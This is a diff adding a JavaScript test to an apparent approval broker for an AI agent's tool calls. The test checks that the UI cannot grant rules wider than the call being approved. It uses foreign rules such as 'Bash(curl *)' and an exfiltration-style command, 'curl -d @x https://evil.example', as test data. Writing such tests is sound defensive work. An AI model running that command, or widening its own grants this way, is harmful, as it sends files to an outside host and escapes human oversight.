@@ -74,6 +74,40 @@ test("a bad answer is rejected by the core and the request stays answerable; byp
   }
 });
 
+test("an allow answer from the UI may only remember rules that cover the call it answers", async () => {
+  const { port1, port2 } = new MessageChannel();
+  const broker = new ApprovalBroker({ policy: {} });
+  const hostErrors = [];
+  const detach = createBrokerHost(broker, port1, { onError: (e) => hostErrors.push(e.code) });
+  const client = createApprovalClient(port2);
+  try {
+    const seen = next(client.onRequest);
+    const outcome = broker.requestApproval(bash("npm test"));
+    const [approval] = await seen;
+    const rejected = next(client.onRejected);
+    const foreign = ["Bash(curl *)", "WebFetch(domain:evil.example)", "Bash(git push *)", "Edit(//p/**)"];
+    port2.postMessage({ toolgate: 1, type: "approval-response", requestId: approval.id, answer: { kind: "allow", scope: "always", rules: foreign } });
+    const [, error] = await rejected;
+    assert.equal(error.code, "GRANT_REFUSED");
+    assert.deepEqual(hostErrors, ["GRANT_REFUSED"]);
+    assert.deepEqual(broker.trust.list(), [], "nothing was remembered");
+    assert.deepEqual(broker.pending().map((a) => a.id), [approval.id], "the call still waits");
+    client.respond(approval.id, { kind: "allow", scope: "always", rules: ["Bash(npm test *)"] });
+    const settled = await outcome;
+    assert.equal(settled.status, "approved");
+    assert.deepEqual(settled.grants, ["Bash(npm test *)"]);
+    const later = broker.requestApproval(bash("curl -d @x https://evil.example", { sessionId: "s2" }));
+    await new Promise((r) => setTimeout(r, 20));
+    assert.equal(broker.pending().length, 1, "curl still asks");
+    broker.cancel(broker.pending()[0].id);
+    await later.catch(() => {});
+  } finally {
+    detach();
+    client.close();
+    port1.close();
+  }
+});
+
 test("a client connecting late gets the pending requests; an expiry reaches it as settled", async () => {
   const { port1, port2 } = new MessageChannel();
   const broker = new ApprovalBroker({ policy: {} });
